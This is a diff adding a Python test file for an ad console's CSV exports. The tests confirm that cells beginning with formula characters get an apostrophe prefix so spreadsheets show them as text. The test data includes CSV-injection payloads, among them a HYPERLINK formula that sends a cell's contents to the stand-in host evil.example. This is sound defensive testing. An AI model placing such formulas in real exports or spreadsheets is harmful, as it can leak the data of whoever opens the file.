@@ -1,0 +1,105 @@
+"""Every CSV the console writes is safe to open in a spreadsheet: a cell that would start a formula (=, +, -, @, a
+tab or a carriage return first) is written with a leading ' so it shows as text (CSV injection). One helper,
+campaign_export.write_csv, writes them all; the last test keeps it that way."""
+
+from __future__ import annotations
+
+import csv
+import re
+from datetime import date, datetime, timedelta
+from pathlib import Path
+
+from sqlmodel import Session
+
+from app.analytics import get_store
+from app.analytics.store import FactRow
+from app.services import app_lists, campaign_export, campaigns, report_jobs, reports
+from app.settings import REPO_ROOT
+from tests.helpers import actor_of, wait_for_run
+
+PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "-1+2", "@SUM(1)", "\t=1+1", "\r=1+1"]
+DANGEROUS = campaign_export.FORMULA_STARTS
+DAY = date.today() - timedelta(days=2)
+BASE = {"objective": "traffic", "starts_at": "2026-12-01", "time_zone": "UTC", "total_budget": "1000",
+        "bid_strategy": "cpm", "bid": "2"}
+
+
+def _cells(path: Path) -> list[str]:
+    with path.open(newline="", encoding="utf-8-sig") as source:
+        return [cell for row in csv.reader(source) for cell in row]
+
+
+def _exported(link: dict[str, str], actor: object) -> list[str]:
+    token = link["csv_download_url"].removeprefix(campaign_export.URL_PREFIX)
+    return _cells(campaign_export.open_export(token=token, actor=actor)[0])  # type: ignore[arg-type]
+
+
+def _assert_inert(cells: list[str], expected: list[str]) -> None:
+    """No cell starts a formula, and each expected value is there, guarded, with its text intact."""
+    assert not [cell for cell in cells if cell.startswith(DANGEROUS)], cells
+    for value in expected:
+        assert ("'" + value if value.startswith(DANGEROUS) else value) in cells, (value, cells)
+
+
+def test_every_export_neutralises_formulas(db: Session, demo_ids: dict[str, int]) -> None:
+    me = actor_of(db, "advertiser@demo.example")
+    advertiser = demo_ids["advertiser@demo.example"]
+    # Campaign names take letters, digits, spaces and hyphens: of the formula starts, only "-" gets through.
+    names = []
+    for name in ("-1 2", "-Winter Sale", "Spring Sale"):
+        made = campaigns.create_campaign(db, actor=me, data={**BASE, "name": name})
+        names.append((made["id"], made["name"]))
+    hour = datetime(DAY.year, DAY.month, DAY.day, 10)
+    get_store().ingest("csv-injection", [
+        FactRow(hour=hour, advertiser_id=advertiser, campaign_id=cid, creative_id=0, exchange="Google AdX",
+                os="Android", country="US", app=payload, device_type="phone", impressions=5, clicks=1,
+                spend_micros=1000)
+        for cid, payload in zip([cid for cid, _name in names] * 2, PAYLOADS, strict=True)], source="test")
+    db.commit()
+    stored_names = [name for _cid, name in names]
+
+    # The campaign list's export, with the names as stored (a name may lose surrounding blanks on save).
+    _assert_inert(_exported(campaign_export.export_campaigns(db, actor=me, columns=["name"]), me), stored_names)
+
+    # A report by campaign (its CSV file, also what scheduled e-mails attach) and the running-apps export.
+    report = reports.create_report(db, actor=me, report_type="campaign",
+                                   data={"name": "-Sum 1", "period": "custom",
+                                         "start_date": DAY.isoformat(), "end_date": DAY.isoformat(),
+                                         "metrics": ["impressions", "clicks", "spend"]})
+    run_id = reports.start_run(db, actor=me, report_id=report["id"])["id"]
+    db.commit()
+    try:
+        run = wait_for_run(run_id)
+    finally:
+        report_jobs.shutdown()
+    assert run.status == "completed", run.error
+    report_cells = _cells(reports.reports_dir() / run.result_file)
+    assert report_cells, "the report has rows"
+    _assert_inert(report_cells, [])
+    assert [c for c in report_cells if c.lstrip("'") in stored_names], report_cells
+    download = reports.download_run(db, actor=me, run_id=run_id)
+    assert not download["filename"].startswith(DANGEROUS) and "/" not in download["filename"]
+    _assert_inert(_exported(reports.running_apps_export(db, actor=me, start=DAY, end=DAY), me), PAYLOADS)
+
+    # An inventory list's export: entries are checked on the way in, so the guard is for its header and kinds.
+    made = app_lists.create_list(db, actor=me, data={"name": "-List 1", "kind": "allow",
+                                                     "entries": "news.example.com\n=1+1\n-bad.example"})
+    _assert_inert(_exported(app_lists.export_entries(db, actor=me, applist_id=made["list"]["id"]), me),
+                  ["news.example.com"])
+
+
+def test_safe_cell():
+    for payload in (*PAYLOADS, "-", "=", "@"):
+        assert campaign_export.safe_cell(payload) == "'" + payload
+    for harmless in ("Spring Sale", "100", "1.5", "", None, "a=b", "'quoted"):
+        assert campaign_export.safe_cell(harmless) == ("" if harmless is None else harmless)
+
+
+def test_one_helper_writes_every_csv():
+    """A new export written with its own csv.writer would skip the guard: only the shared writer (and the
+    statistics store's internal bulk-load files, never downloaded) may make one."""
+    allowed = {"app/services/campaign_export.py", "app/analytics/duckdb_store.py"}
+    writers = {str(path.relative_to(REPO_ROOT)) for folder in ("app", "components")
+               for path in (REPO_ROOT / folder).rglob("*.py")
+               if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))}
+    assert writers <= allowed, writers - allowed
